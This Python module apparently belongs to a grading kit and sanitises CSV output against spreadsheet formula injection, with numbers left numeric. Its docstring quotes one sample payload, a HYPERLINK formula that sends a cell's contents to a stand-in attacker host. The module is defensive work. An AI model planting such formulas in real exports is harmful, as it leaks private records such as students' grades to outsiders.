"""CSV that a spreadsheet opens as data: every CSV the kit writes, no text cell a formula.

Excel, LibreOffice Calc and Google Sheets take a cell that starts with ``=``, ``+``, ``-`` or
``@`` (after spaces too; a leading tab or carriage return also counts) as a formula, so a
student named ``=HYPERLINK("https://evil.example/?"&A2, "grades")`` would be a live link in
the staff's gradebook. Such a text is written with a ``'`` in front (OWASP's advice for CSV
injection), which spreadsheets show as text; the full-width ``＝＋－＠`` count as well.
A carriage return inside a text is written as a line break: Python's CSV writer, ending its
lines in ``\n``, quotes a field with a ``\n`` but not one with a bare ``\r``, which a
spreadsheet takes for the end of the row, starting the next with whatever follows it.
Numbers are written as numbers and never changed, so scores stay numeric.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""A cell whose first character other than white space is one of these is a formula."""


def cell(value) -> str | int | float:
    """``value`` as a CSV cell: a finite number as it is, ``None`` blank, anything else as
    text that no spreadsheet runs."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool) and math.isfinite(value):
        return value
    text = str(value).replace("\r\n", "\n").replace("\r", "\n")
    if text[:1] in ("\t", "\n") or text.lstrip()[:1] in FORMULA_STARTS:
        return "'" + text
    return text


def csv_text(rows: Iterable[Iterable]) -> str:
    """The CSV of ``rows`` (lines end in ``\\n``), every value through :func:`cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in rows:
        writer.writerow([cell(value) for value in row])
    return buffer.getvalue()
